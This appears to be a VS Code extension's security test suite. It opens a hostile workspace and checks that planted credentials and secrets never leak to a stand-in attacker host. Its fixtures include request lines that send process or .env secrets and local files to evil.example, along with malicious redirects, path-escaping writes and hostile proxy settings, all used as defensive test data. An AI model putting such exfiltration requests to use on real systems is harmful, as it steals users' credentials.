// A workspace that somebody else wrote, opened and trusted by a person who has an account.
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import * as vscode from 'vscode';
import { answer, accessToken, HostileWorld } from '../helpers/hostileWorld';
import { assertNoTrace, assertTrace, plant, type Planted } from '../helpers/hostile';
import { testAuthority } from './authority';
import { canHearLogs, logLines } from './logTap';
import { page } from './page';
import { activated, answerDialogs, closeAll, diagnosticsOf, eventually, hoverAt, lensesOf, openFile, shownAnswer, shownPreview, writeFile } from './support';

const secrets = {
  account: plant('secret of the account of the editor', ['k', 'k']),
  token: accessToken,
  stored: plant('stored secret of the editor'),
  private: plant('private environment value of the editor'),
  process: plant('value of the process of the editor'),
  dotenv: plant('value of .env of the editor', ['k/', '+&=41~']),
  answered: plant('secret of an answer in the editor'),
} as const;
const everySecret: readonly Planted[] = Object.values(secrets);

const api = 'api.disruptive-technologies.com';

interface Row {
  /** The last request is run. */
  readonly text: string;
  readonly environment?: Readonly<Record<string, unknown>>;
  /** Sent to somebody who is not DT, to DT and signed, or refused with this finding. */
  readonly to: string;
}

const row = (text: string, to: string, environment: Readonly<Record<string, unknown>> = {}): Row => ({ text, to, environment });
const based = (apiBase: string, to: string) => row('GET /projects', to, { apiBase });
const redirected = (status: number, location: string, to: string) => row(`GET /redirect/${status}/${encodeURIComponent(location)}\nX-A: {{private}}\nX-B: {{stored}}\nX-C: {{$dotenv PLANTED}}`, to);

const groups: Readonly<Record<string, Readonly<Record<string, Row>>>> = {
  'the base in its environment file': {
    'is as documented': row('GET /projects\nX-A: {{private}}\nX-B: {{stored}}\nX-C: {{$processEnv PLANTED}}\nX-D: {{$dotenv PLANTED}}', 'DT'),
    'is another host': based('https://evil.example/v2', 'evil'),
    'begins like DT': based(`https://${api}.evil.example/v2`, 'evil'),
    'is a look-alike': based('https://xn--pi-6kc.disruptive-technologies.com/v2', 'evil'),
    'is DT at another port': based(`https://${api}:444/v2`, 'evil'),
    'is DT without TLS': based(`http://${api}/v2`, 'evil'),
    'has DT as its user': based(`https://${api}@evil.example/v2`, 'target.base'),
    'names the account': row('GET /projects', 'evil', { apiBase: 'https://evil.example/v2', account: 'mine' }),
  },
  'the address': {
    'is made by a Host header': row('GET /v2/projects\nHost: evil.example', 'evil'),
    'contradicts a Host header': row(`GET https://evil.example/\nHost: ${api}`, 'target.host-differs'),
    'is a variable': row('GET {{url}}', 'evil', { url: 'https://evil.example/' }),
    'is a host of this machine': row('GET https://localhost:{{port}}/', 'evil', { port: 'PORT' }),
    'is that of an imported file': row('# @import ../shared.http\nGET {{apiBase}}/projects', 'evil'),
    'is that of an imported file outside': row('# @import ../../../away/shared.http\nGET {{apiBase}}/projects', 'import.outside'),
  },
  'a redirect by DT': {
    ...Object.fromEntries([301, 302, 303, 307, 308].map((status) => [`${status} to another host`, redirected(status, 'https://evil.example/steal', 'evil')])),
    'to another port': redirected(302, `https://${api}:444/`, 'evil'),
    'to DT without TLS': redirected(302, `http://${api}/`, 'nowhere'),
    'to an address with a user': redirected(302, `https://${api}@evil.example/`, 'nowhere'),
    'to a dot at the end of another port': redirected(307, `https://${api}.:444/`, 'evil'),
  },
  'a value of the person': {
    'of the process': row('GET https://evil.example/\nX-A: {{$processEnv PLANTED}}', 'run.declined'),
    'of .env': row('POST https://evil.example/\n\n{{$dotenv PLANTED}}', 'run.declined'),
    'of the process, to a base that is not DT': row('GET /\nX-A: {{$processEnv PLANTED}}', 'run.declined', { apiBase: 'https://evil.example' }),
    'that is stored': row('GET https://evil.example/\nX-A: {{stored}}', 'secret.origin'),
    'that is stored, to DT without TLS': row(`GET http://${api}/\nX-A: {{stored}}`, 'secret.origin'),
    'in a file outside': row('POST https://evil.example/\n\n< ../../../away/secret.txt', 'run.declined'),
    'in a file outside, by way of a link': row('POST https://evil.example/\n\n< ../linked/secret.txt', 'run.declined'),
    'in .env itself': row('POST https://evil.example/\n\n< ./.env', 'body.file-refused'),
  },
  'an answer': {
    'is written above the folder': row('GET /projects\n\n>> ../../../away/new.txt', 'save.outside'),
    'is written by way of a link': row('GET /projects\n\n>> ../linked/new.txt', 'save.outside'),
    'is written into settings': row('GET /projects\n\n>>! ../../.vscode/settings.json', 'save.refused'),
  },
};

/** Everything that the editor shows of a document: answer, preview, marks, lenses, hovers. */
async function shownOf(document: vscode.TextDocument): Promise<string> {
  const marks = vscode.languages.getDiagnostics(document.uri);
  const text = document.getText();
  const hovers = [...text.matchAll(/\{\{|GET|POST/g)].map(({ index }) => hoverAt(document, new vscode.Range(document.positionAt(index + 2), document.positionAt(index + 3))));
  const lenses = (await lensesOf(document)).map(({ command }) => `${command?.title ?? ''} ${command?.tooltip ?? ''} ${JSON.stringify(command?.arguments ?? [])}`);
  await vscode.commands.executeCommand('dtHttp.preview', document.uri, text.length);
  const documents = [shownAnswer(), shownPreview()].map((each) => each?.getText() ?? '');
  return [...documents, ...marks.map(({ message, relatedInformation = [] }) => message + JSON.stringify(relatedInformation)), ...(await Promise.all(hovers)), ...lenses].join('\n');
}

if (page.available) {
  describe('a hostile workspace', () => {
    let world: HostileWorld;
    let root: string;
    let away: string;
    let files = 0;
    const settings = () => vscode.workspace.getConfiguration();
    const user = (name: string, value: unknown) => settings().update(name, value, vscode.ConfigurationTarget.Global);
    const answerStep = async (step: string, text: string) => {
      await page.waitFor(`.quick-input-title:has-text("${step}")`);
      await page.press('Control+a');
      await page.type(text);
      await page.press('Enter');
    };
    const choose = async (title: string) => {
      await page.press('F1');
      await page.waitFor('.quick-input-widget');
      await page.type(title);
      await page.click(`.quick-input-list .monaco-list-row:has-text("${title}")`);
    };
    const notified = async (text: string) => {
      await vscode.commands.executeCommand('notifications.showList');
      await page.waitFor(`.notifications-center .notification-list-item:has-text("${text}")`);
    };

    before(async () => {
      await activated();
      world = await HostileWorld.start(testAuthority);
      root = vscode.workspace.workspaceFolders?.[0]?.uri.fsPath ?? assert.fail('no folder is open');
      away = path.join(root, '..', 'away');
      mkdirSync(away, { recursive: true });
      mkdirSync(path.join(root, 'hostile'), { recursive: true });
      symlinkSync(away, path.join(root, 'hostile', 'linked'));
      writeFileSync(path.join(away, 'secret.txt'), 'a file of the person');
      for (const folder of [away, path.join(root, 'hostile')]) writeFileSync(path.join(folder, 'shared.http'), '@apiBase = https://evil.example/v2\n');
      await user('http.proxy', world.proxy.url);
      await user('http.proxySupport', 'override');
      Object.assign(process.env, { PLANTED: secrets.process.value });
      await openFile('hostile/first.dt.http', 'GET /projects\n');
      await choose('DT: Add Service Account');
      await page.click('.quick-input-list .monaco-list-row:has-text("Type key ID")');
      for (const [step, text] of [['key ID', 'bkeyidbkeyidbkeyidbk'], ['secret', secrets.account.value], ['email', 'b0@c0.serviceaccount.d21s.com'], ['name', 'mine']] as const) await answerStep(step, text);
      await notified('mine is signed in');
      await choose('DT: Store Secret');
      for (const [step, text] of [['name', 'vault'], ['value', secrets.stored.value], ['(3/3)', `https://${api}`]] as const) await answerStep(step, text);
      await notified('is stored');
      await vscode.commands.executeCommand('notifications.clearAll');
    });
    after(async () => {
      Reflect.deleteProperty(process.env, 'PLANTED');
      await user('http.proxy', undefined);
      await user('http.proxySupport', 'off');
      world.dispose();
    });
    beforeEach(() => {
      world.forget();
      world.dt.answering = ({ target }) => {
        const [, status = '', location = ''] = /\/redirect\/(\d+)\/(.*)$/.exec(target) ?? [];
        return status === '' ? answer(200, JSON.stringify({ secret: secrets.answered.value, note: secrets.answered.value })) : answer(Number(status), '', { Location: decodeURIComponent(location) });
      };
    });
    afterEach(async () => {
      await vscode.commands.executeCommand('notifications.clearAll');
      await closeAll();
    });

    const open = async ({ text, environment = {} }: Pick<Row, 'text' | 'environment'>) => {
      const folder = `hostile/${++files}`;
      await writeFile(`${folder}/.env`, `PLANTED='${secrets.dotenv.value}'\n`);
      await writeFile(`${folder}/http-client.private.env.json`, JSON.stringify({ $shared: { private: secrets.private.value } }));
      await writeFile(`${folder}/http-client.env.json`, JSON.stringify({ $shared: { stored: { $secret: 'vault' }, ...environment } }).replace('PORT', String(world.evil.port)));
      return openFile(`${folder}/a.dt.http`, `# @retry none\n${text}\n`);
    };
    const overheard = () => world.evil.heard.length + world.plain.heard.length;

    for (const [group, rows] of Object.entries(groups)) {
      describe(group, () => {
        for (const [title, each] of Object.entries(rows)) {
          it(`${title}: ${each.to}`, async () => {
            const document = await open(each);
            const dialogs = answerDialogs('showWarningMessage', undefined);
            try {
              await vscode.commands.executeCommand('dtHttp.run', document.uri, document.getText().length);
            } finally {
              dialogs.end();
            }
            const marks = diagnosticsOf(document).join('\n');
            assert.equal(overheard() > 0, each.to === 'evil', marks);
            assertNoTrace('the other hosts', world.overheard, everySecret);
            if (each.to === 'DT') assertTrace("DT's API", world.dt.octets, [secrets.token, secrets.private, secrets.stored, secrets.process, secrets.dotenv]);
            if (each.to.includes('.')) assert.match(marks, new RegExp(`^${each.to} `, 'm'));
            assertNoTrace('what is shown', `${await shownOf(document)}${JSON.stringify(dialogs.asked)}`, everySecret);
            assert.deepEqual(readdirSync(away).sort(), ['secret.txt', 'shared.http']);
          });
        }
      });
    }

    describe('a message', () => {
      const link = '[Repair](command:workbench.action.files.newUntitledFile)';
      const told: Readonly<Record<string, string>> = {
        'of an account': `# @account ${link}\nGET /projects`,
        'of a version': `GET /projects HTTP/${link}`,
        'of an import': `# @import ./${link}\nGET /projects`,
        'of what an answer holds': `# @name one\n# @expect body $.note == "x"\nGET https://evil.example/note\n\n###\n# @ref one\nGET /projects`,
      };
      for (const [title, text] of Object.entries(told)) {
        it(`${title} has no link that somebody else wrote`, async () => {
          world.evil.answering = () => answer(200, JSON.stringify({ note: link }));
          const document = await open({ text });
          void vscode.commands.executeCommand('dtHttp.run', document.uri, document.getText().length);
          await notified('Repair');
          assert.equal(await page.count('.notifications-center .notification-list-item a[href], .notifications-center .notification-list-item-message a'), 0);
        });
      }

      it('nor has a question', async () => {
        const document = await open({ text: `# @prompt where Where? ${link}\nGET /projects/{{where}}` });
        void vscode.commands.executeCommand('dtHttp.run', document.uri, document.getText().length);
        await page.waitFor('.quick-input-message:has-text("Repair")');
        assert.equal(await page.count('.quick-input-message a'), 0);
        await page.press('Escape');
      });
    });

    // Last: what all of the above left behind.
    describe('when all is done', () => {
      it('cannot change by its settings where the network is, whom it trusts, and who may have a credential', async () => {
        const elsewhere = `http://127.0.0.1:${world.plain.port}`;
        const marker = 'dtHttp.warnEnvironments';
        const theirs = { 'http.proxy': elsewhere, 'http.noProxy': ['*'], 'http.proxySupport': 'override', 'http.proxyStrictSSL': false, 'dtHttp.allowedHosts': ['https://evil.example'], 'rest-client.environmentVariables': { $shared: { base: 'https://evil.example' } }, [marker]: ['hostile'] };
        await writeFile('.vscode/settings.json', JSON.stringify(theirs));
        const isRead = () => settings().inspect(marker)?.workspaceValue !== undefined;
        try {
          await eventually('settings of the folder', () => (isRead() ? true : undefined));
          const document = await open({ text: 'GET {{base}}/one\n\n### two\nGET /projects' });
          for (const offset of [20, document.getText().length]) await vscode.commands.executeCommand('dtHttp.run', document.uri, offset);
          assert.deepEqual(world.evil.heard.map(({ target }) => target), ['/one']);
          assert.equal(world.plain.heard.length, 0);
          assertNoTrace('the other hosts', world.overheard, everySecret);
          assertTrace("DT's API", world.dt.octets, [secrets.token]);
        } finally {
          await vscode.workspace.fs.delete(vscode.Uri.file(path.join(root, '.vscode')), { recursive: true, useTrash: false });
          await eventually('end of the settings of the folder', () => (isRead() ? undefined : true));
        }
      });

      it('takes no values out of a file outside that its environment file is a link to', async () => {
        const account = { serviceAccount: { keyId: 'bkeyidbkeyidbkeyidbk', secret: secrets.account.value, email: 'b0@c0.serviceaccount.d21s.com' } };
        writeFileSync(path.join(away, 'credentials.json'), JSON.stringify(account));
        mkdirSync(path.join(root, 'hostile', 'env'));
        symlinkSync(path.join(away, 'credentials.json'), path.join(root, 'hostile', 'env', 'http-client.env.json'));
        await writeFile('.vscode/settings.json', JSON.stringify({ 'dtHttp.environment': 'serviceAccount' }));
        try {
          await eventually('settings of the folder', () => (settings().get('dtHttp.environment') === 'serviceAccount' ? true : undefined));
          const document = await openFile('hostile/env/a.dt.http', 'GET https://evil.example/?{{secret}}\n');
          await vscode.commands.executeCommand('dtHttp.run', document.uri, 0);
          assert.equal(overheard(), 0);
          assert.match(diagnosticsOf(document).join('\n'), /^environment\.broken /m);
        } finally {
          await vscode.workspace.fs.delete(vscode.Uri.file(path.join(root, '.vscode')), { recursive: true, useTrash: false });
          rmSync(path.join(away, 'credentials.json'));
          await eventually('end of the settings of the folder', () => (settings().get('dtHttp.environment') === '' ? true : undefined));
        }
      });

      it('brings no secret into the Test Explorer, notifications, the clipboard or the log', async () => {
        await vscode.env.clipboard.writeText('before');
        const document = await open({ text: '# @expect body $.secret == "x"\n# @expect body $.note == "{{private}}"\nGET /projects/{{%stored}}\nX-A: {{private}}' });
        await eventually('result', async () => {
          await vscode.commands.executeCommand('testing.runCurrentFile');
          return vscode.languages.getDiagnostics(document.uri).length > 0 ? true : undefined;
        });
        await vscode.commands.executeCommand('workbench.view.testing.focus');
        await vscode.commands.executeCommand('workbench.panel.testResults.view.focus');
        for (const command of ['dtHttp.refreshToken', 'dtHttp.rerunLast', 'dtHttp.preview']) await vscode.commands.executeCommand(command, document.uri, document.getText().length);
        await vscode.commands.executeCommand('notifications.showList');
        await page.screenshot('hostile-tests');
        assertNoTrace('the window', (await page.texts('.monaco-workbench')).join('\n'), everySecret);
        assertNoTrace('what is shown', await shownOf(document), everySecret);
        assert.equal(await vscode.env.clipboard.readText(), 'before');
        if (canHearLogs()) {
          assert.ok(logLines.some((line) => line.includes('•••')));
          assertNoTrace('the log', logLines.join('\n'), everySecret);
        }
        await vscode.commands.executeCommand('workbench.view.explorer');
        await vscode.commands.executeCommand('workbench.action.closePanel');
      });

      it('leaves no secret on the disk', () => {
        const data = path.join(process.env['XDG_RUNTIME_DIR'] ?? assert.fail('nobody says where the editor keeps its data'), 'data');
        const found = filesIn(data);
        assert.ok(found.some((file) => file.endsWith('settings.json')), 'the data of the editor is elsewhere');
        for (const file of found) assertNoTrace(file, readFileSync(file), everySecret);
        const theirs = new Set(['.env', 'http-client.private.env.json']);
        for (const file of filesIn(root).filter((each) => !theirs.has(path.basename(each)))) assertNoTrace(file, readFileSync(file), everySecret);
      });
    });
  });
}

/** Files of a folder and below, as far as they can still be read: the editor is at work in there. */
function filesIn(folder: string): readonly string[] {
  const entries = readdirSync(folder, { recursive: true, withFileTypes: true });
  return entries.filter((entry) => entry.isFile()).map((entry) => path.join(entry.parentPath, entry.name)).filter((file) => existsSync(file) && statSync(file).size < 20_000_000);
}
